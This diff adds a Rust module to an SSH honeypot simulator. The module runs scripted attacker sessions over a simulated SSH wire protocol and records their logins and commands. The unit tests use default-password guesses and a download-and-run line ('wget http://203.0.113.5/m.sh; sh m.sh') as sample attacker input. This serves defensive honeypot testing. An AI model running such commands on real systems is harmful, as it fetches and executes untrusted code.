@@ -1,0 +1,215 @@
+//! Wire-accurate session path: the same honeypot policy and shell, driven
+//! through a real `sshwire` dialogue.
+//!
+//! The bulk generator (`session`) skips byte framing for speed; this
+//! module proves the equivalence by running a scripted client against the
+//! honeypot over the full SSH message exchange and emitting the same
+//! [`SessionRecord`]. Examples and integration tests use it.
+
+use crate::auth::AuthPolicy;
+use crate::record::{
+    CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
+};
+use crate::shell::{RemoteStore, Shell};
+use hutil::DateTime;
+use netsim::Ipv4Addr;
+use sshwire::{
+    run_dialogue, AuthOutcome, ClientScript, ServerHandler, SshClient, SshError, SshServer,
+};
+
+/// Bridges the honeypot policy and shell into `sshwire`'s handler trait.
+pub struct WireHandler<'s> {
+    policy: AuthPolicy,
+    shell: Shell<'s>,
+    commands: Vec<CommandRecord>,
+}
+
+impl<'s> WireHandler<'s> {
+    /// New handler over a fresh shell.
+    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
+        Self { policy, shell: Shell::new(store), commands: Vec::new() }
+    }
+}
+
+impl ServerHandler for WireHandler<'_> {
+    fn auth(&mut self, username: &str, password: Option<&str>) -> AuthOutcome {
+        match password {
+            Some(pw) if self.policy.accept(username, pw) => AuthOutcome::Accept,
+            // The `none` probe is always rejected, like Cowrie.
+            _ => AuthOutcome::Reject,
+        }
+    }
+
+    fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
+        let outcome = self.shell.exec_line(command);
+        self.commands.push(CommandRecord { input: command.to_string(), known: outcome.known });
+        let status = if outcome.known { 0 } else { 127 };
+        (outcome.output.into_bytes(), status)
+    }
+}
+
+/// Network identity of a wire session (addresses aren't part of the SSH
+/// dialogue itself).
+#[derive(Debug, Clone)]
+pub struct WireSessionMeta {
+    /// Target sensor id.
+    pub honeypot_id: u16,
+    /// Target sensor address.
+    pub honeypot_ip: Ipv4Addr,
+    /// Source address.
+    pub client_ip: Ipv4Addr,
+    /// Source port.
+    pub client_port: u16,
+    /// Handshake completion instant.
+    pub start: DateTime,
+}
+
+/// Runs `script` against a honeypot over the full SSH wire protocol and
+/// returns the session record plus total bytes exchanged.
+pub fn run_wire_session(
+    meta: &WireSessionMeta,
+    script: ClientScript,
+    policy: AuthPolicy,
+    store: &dyn RemoteStore,
+) -> Result<(SessionRecord, u64), SshError> {
+    let client_version = script.version.clone();
+    let client = SshClient::new(script, b"client-nonce".to_vec());
+    let server = SshServer::new(
+        WireHandler::new(policy, store),
+        sshwire::SERVER_VERSION_DEFAULT,
+        [0x5a; 16],
+        b"server-nonce".to_vec(),
+    );
+    let (log, mut handler) = run_dialogue(client, server)?;
+
+    let logins: Vec<LoginAttempt> = log
+        .auth_log
+        .iter()
+        .map(|(user, pass, ok)| LoginAttempt {
+            username: user.clone(),
+            password: pass.clone().unwrap_or_default(),
+            success: *ok,
+        })
+        .collect();
+    let (uris, file_events) = handler.shell.take_observations();
+
+    // Wall-clock modelling for the wire path: one second per protocol
+    // round plus one per command, matching the bulk path's scale.
+    let rounds = 3 + logins.len() as i64 + handler.commands.len() as i64;
+    let record = SessionRecord {
+        session_id: 0,
+        honeypot_id: meta.honeypot_id,
+        honeypot_ip: meta.honeypot_ip,
+        client_ip: meta.client_ip,
+        client_port: meta.client_port,
+        protocol: Protocol::Ssh,
+        start: meta.start,
+        end: meta.start.plus_secs(rounds),
+        end_reason: SessionEndReason::ClientClose,
+        client_version: Some(client_version),
+        logins,
+        commands: std::mem::take(&mut handler.commands),
+        uris,
+        file_events,
+    };
+    Ok((record, log.bytes_to_server + log.bytes_to_client))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::record::FileOp;
+    use crate::shell::NullStore;
+    use hutil::Date;
+
+    fn meta() -> WireSessionMeta {
+        WireSessionMeta {
+            honeypot_id: 7,
+            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
+            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
+            client_port: 55555,
+            start: Date::new(2023, 2, 14).at(8, 0, 0),
+        }
+    }
+
+    #[test]
+    fn wire_session_produces_full_record() {
+        let fetch = |uri: &str| {
+            (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec())
+        };
+        let script = ClientScript::new(
+            "root",
+            &["root", "admin"],
+            &["uname -a", "cd /tmp; wget http://203.0.113.5/m.sh; sh m.sh"],
+        );
+        let (rec, bytes) =
+            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
+        assert_eq!(rec.logins.len(), 2);
+        assert!(!rec.logins[0].success);
+        assert!(rec.logins[1].success);
+        assert_eq!(rec.commands.len(), 2);
+        assert!(rec.commands.iter().all(|c| c.known));
+        assert_eq!(rec.uris, vec!["http://203.0.113.5/m.sh"]);
+        assert!(rec.changes_state());
+        assert!(rec.attempts_exec());
+        assert!(bytes > 500, "a real dialogue moves real bytes");
+    }
+
+    #[test]
+    fn wire_and_bulk_paths_agree() {
+        use crate::session::{SessionInput, SessionSim};
+        use netsim::latency::LatencyModel;
+
+        let fetch = |uri: &str| {
+            (uri == "http://203.0.113.5/m.sh").then(|| b"#!/bin/sh\nM\n".to_vec())
+        };
+        let commands =
+            vec!["cd /tmp".to_string(), "wget http://203.0.113.5/m.sh; sh m.sh".to_string()];
+
+        let script = ClientScript::new(
+            "root",
+            &["root", "1234"],
+            &[&commands[0], &commands[1]],
+        );
+        let (wire_rec, _) =
+            run_wire_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
+
+        let sim = SessionSim::new(AuthPolicy::default(), &fetch, LatencyModel::new(1));
+        let bulk_rec = sim.run(SessionInput {
+            honeypot_id: 7,
+            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 7),
+            client_ip: Ipv4Addr::from_octets(10, 9, 8, 7),
+            client_port: 55555,
+            protocol: Protocol::Ssh,
+            start: Date::new(2023, 2, 14).at(8, 0, 0),
+            client_version: Some("SSH-2.0-Go".into()),
+            logins: vec![
+                ("root".into(), "root".into()),
+                ("root".into(), "1234".into()),
+            ],
+            commands,
+            idle_out: false,
+        });
+
+        // The observable record content must be identical (timing differs).
+        assert_eq!(wire_rec.logins.len(), bulk_rec.logins.len());
+        for (w, b) in wire_rec.logins.iter().zip(&bulk_rec.logins) {
+            assert_eq!((w.username.as_str(), w.success), (b.username.as_str(), b.success));
+        }
+        assert_eq!(wire_rec.commands, bulk_rec.commands);
+        assert_eq!(wire_rec.uris, bulk_rec.uris);
+        assert_eq!(wire_rec.file_events, bulk_rec.file_events);
+    }
+
+    #[test]
+    fn phil_probe_over_the_wire() {
+        let store = NullStore;
+        let mut script = ClientScript::new("phil", &["anything"], &[]);
+        script.hangup_after_auth = true;
+        let (rec, _) = run_wire_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
+        assert!(rec.login_succeeded());
+        assert_eq!(rec.accepted_username(), Some("phil"));
+        assert!(rec.commands.is_empty());
+        assert!(!rec.file_events.iter().any(|e| matches!(e.op, FileOp::Created { .. })));
+    }
+}
